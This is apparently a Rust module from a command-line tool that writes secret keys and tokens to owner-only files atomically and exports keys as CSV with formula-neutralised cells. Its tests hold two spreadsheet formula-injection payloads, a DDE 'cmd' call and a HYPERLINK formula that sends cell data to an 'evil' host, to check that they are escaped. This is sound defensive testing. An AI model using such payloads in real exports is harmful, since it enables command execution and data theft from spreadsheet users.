//! Files that only their owner may read: keys, tokens, backups.

use std::{
    fs::{self, File, OpenOptions, TryLockError},
    io::{self, Write},
    os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt},
    path::{Path, PathBuf},
};

use serde_json::Value;

use super::{
    Failure,
    asked::{note, text},
    inert, output,
};

/// A new file of mode 0600; one that exists is left alone.
pub(super) fn create(path: &Path, option: &str) -> Result<File, Failure> {
    let made = OpenOptions::new().write(true).create_new(true).mode(0o600).open(path);
    made.map_err(|error| match error.kind() {
        io::ErrorKind::AlreadyExists => Failure::Usage(format!(
            "{option}: {} exists, and is not overwritten; name another file or move it away",
            path.display()
        )),
        _ => Failure::to(&format!("make {}", path.display()), &error),
    })
}

/// A file that appears under its name when it is whole, or not at all.
pub(super) struct Whole {
    path: PathBuf,
    part: PathBuf,
    file: Option<File>,
}

impl Whole {
    /// Begins it, beside where it will be. `secret` for mode 0600. What a run that was killed left there is replaced; what
    /// another run is writing is not.
    pub(super) fn begin(path: &Path, secret: bool) -> Result<Self, Failure> {
        let mut name = path.file_name().unwrap_or_default().to_owned();
        name.push(".part");
        let part = path.with_file_name(name);
        let failed = |error: io::Error| Failure::to(&format!("make {}", part.display()), &error);
        let taken = || {
            let path = path.display();
            Failure::conflict(format!("another command is writing {path}; wait for it, or name another file"))
        };
        if fs::symlink_metadata(&part).is_ok_and(|left| left.is_file()) {
            if let Err(TryLockError::WouldBlock) = File::open(&part).map_err(failed)?.try_lock() {
                return Err(taken());
            }
            fs::remove_file(&part).map_err(failed)?;
        }
        let mode = if secret { 0o600 } else { 0o644 };
        let file = OpenOptions::new().write(true).create_new(true).mode(mode).open(&part).map_err(failed)?;
        // Where files cannot be locked, two runs at once are not told apart. Else another run may have taken this file for
        // one that was left, between its making and the lock.
        let locked = !matches!(file.try_lock(), Err(TryLockError::WouldBlock));
        let made = file.metadata().map_err(failed)?;
        let same = |there: fs::Metadata| there.ino() == made.ino() && there.dev() == made.dev();
        if !locked || !fs::symlink_metadata(&part).is_ok_and(same) {
            return Err(taken());
        }
        Ok(Self { path: path.to_owned(), part, file: Some(file) })
    }

    pub(super) fn write(&mut self, bytes: &[u8]) -> Result<(), Failure> {
        let path = self.path.display().to_string();
        let Some(file) = &mut self.file else { return Ok(()) };
        file.write_all(bytes).map_err(|error| Failure::to(&format!("write {path}"), &error))
    }

    /// Closes it, whole and not yet under its name: one of many that appear together.
    pub(super) fn close(&mut self) -> Result<(), Failure> {
        let failed = |error: io::Error| Failure::to(&format!("write {}", self.path.display()), &error);
        self.file.take().map_or(Ok(()), |file| file.sync_all().map_err(failed))
    }

    /// It is whole: on the disk, and under its name.
    pub(super) fn finish(mut self) -> Result<(), Failure> {
        let failed = |error: io::Error| Failure::to(&format!("write {}", self.path.display()), &error);
        // Open, and so locked, until it has its name.
        self.file.as_ref().map_or(Ok(()), File::sync_all).map_err(failed)?;
        fs::rename(&self.part, &self.path).map_err(failed)?;
        if let Some(Ok(directory)) = self
            .path
            .parent()
            .map(|parent| File::open(if parent.as_os_str().is_empty() { Path::new(".") } else { parent }))
        {
            directory.sync_all().map_err(failed)?;
        }
        self.part = PathBuf::new();
        Ok(())
    }
}

impl Drop for Whole {
    fn drop(&mut self) {
        if !self.part.as_os_str().is_empty() {
            let _ = fs::remove_file(&self.part);
        }
    }
}

/// Refuses a file of secrets that others can read.
pub(super) fn private(path: &Path) -> Result<(), Failure> {
    let mode = fs::metadata(path).map_or(0, |data| data.permissions().mode());
    if mode & 0o077 == 0 {
        return Ok(());
    }
    let path = path.display();
    Err(Failure::Failed(format!("{path} can be read by others, and holds tokens: chmod 600 {path}")))
}

/// Where a secret that is shown once will go. The file is made before the secret is: a secret must not be lost
/// because its file cannot be written.
pub(super) struct Place(Option<(PathBuf, File)>);

impl Place {
    pub(super) fn reserve(file: Option<&PathBuf>) -> Result<Self, Failure> {
        file.map(|path| Ok((path.clone(), create(path, "--key-file")?))).transpose().map(Self)
    }

    /// Into the file, or to the standard output; tells whether it was the file.
    pub(super) fn show(mut self, secret: &str) -> Result<bool, Failure> {
        match self.0.take() {
            None => super::super::print(&format!("{}\n", inert::line(secret))).map(|()| false),
            Some((path, mut file)) => {
                let written = writeln!(file, "{secret}").and_then(|()| file.sync_all());
                written
                    .map_err(|error| Failure::to(&format!("write {}", path.display()), &error))
                    .map(|()| true)
            }
        }
    }
}

impl Drop for Place {
    fn drop(&mut self) {
        if let Some((path, _)) = &self.0 {
            let _ = fs::remove_file(path);
        }
    }
}

/// The keys of new things as CSV, each written as soon as it is known: a command that is ended has told what it knew.
pub(super) struct Keys {
    file: Option<(PathBuf, File)>,
    begun: bool,
}

impl Keys {
    /// Into this new file, or to the standard output.
    pub(super) fn reserve(file: Option<&PathBuf>) -> Result<Self, Failure> {
        let file = file.map(|path| Ok((path.clone(), create(path, "--key-file")?))).transpose()?;
        Ok(Self { file, begun: false })
    }

    pub(super) fn add(&mut self, things: &[Value]) -> Result<(), Failure> {
        let mut lines = Vec::new();
        for thing in things {
            if lines.is_empty() && !self.begun {
                lines.extend(record(&["id", "name", "key"])?);
            }
            lines.extend(record(&[text(thing, "id"), text(thing, "name"), text(thing, "key")])?);
        }
        if lines.is_empty() {
            return Ok(());
        }
        let first = !std::mem::replace(&mut self.begun, true);
        match &mut self.file {
            None => {
                if first {
                    note("the new things' keys; they are shown once:");
                }
                output::print(&String::from_utf8_lossy(&lines), output::Escape::Csv)
            }
            Some((path, file)) => {
                let written = file.write_all(&lines).and_then(|()| file.sync_data());
                written.map_err(|error| Failure::to(&format!("write {}", path.display()), &error))
            }
        }
    }
}

impl Drop for Keys {
    fn drop(&mut self) {
        if let (Some((path, _)), false) = (&self.file, self.begun) {
            let _ = fs::remove_file(path);
        }
    }
}

/// One line of CSV whose cells are inert.
pub(super) fn record(cells: &[&str]) -> Result<Vec<u8>, Failure> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let failed = |error: csv::Error| Failure::to("write CSV", &error);
    writer.write_record(cells.iter().map(|cell| inert::cell(cell).into_owned())).map_err(failed)?;
    writer.into_inner().map_err(|error| Failure::to("write CSV", error.error()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_cannot_calculate_in_a_file_of_keys() {
        let line = record(&["id", "=cmd|' /C calc'!A0", "thk_\"a"]).unwrap();
        assert_eq!(String::from_utf8(line).unwrap(), "id,'=cmd|' /C calc'!A0,\"thk_\"\"a\"\n");
        let directory = tempfile::tempdir().unwrap();
        let to = directory.path().join("keys.csv");
        let mut keys = Keys::reserve(Some(&to)).unwrap();
        let name = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
        keys.add(&[serde_json::json!({"id": "1", "name": name, "key": "k"})]).unwrap();
        let written = fs::read_to_string(&to).unwrap();
        assert_eq!(written, "id,name,key\n1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",k\n");
    }

    #[test]
    fn what_a_killed_run_left_is_replaced_and_what_another_writes_is_not() {
        let directory = tempfile::tempdir().unwrap();
        let (to, part) = (directory.path().join("k.csv"), directory.path().join("k.csv.part"));
        fs::write(&part, "left behind").unwrap();
        let mut whole = Whole::begin(&to, true).unwrap();
        assert!(matches!(Whole::begin(&to, true), Err(Failure::Told { code: 6, .. })));
        whole.write(b"whole").unwrap();
        whole.finish().unwrap();
        assert_eq!(fs::read_to_string(&to).unwrap(), "whole");
        assert_eq!(fs::metadata(&to).unwrap().permissions().mode() & 0o777, 0o600);
        assert!(!part.exists());
    }
}
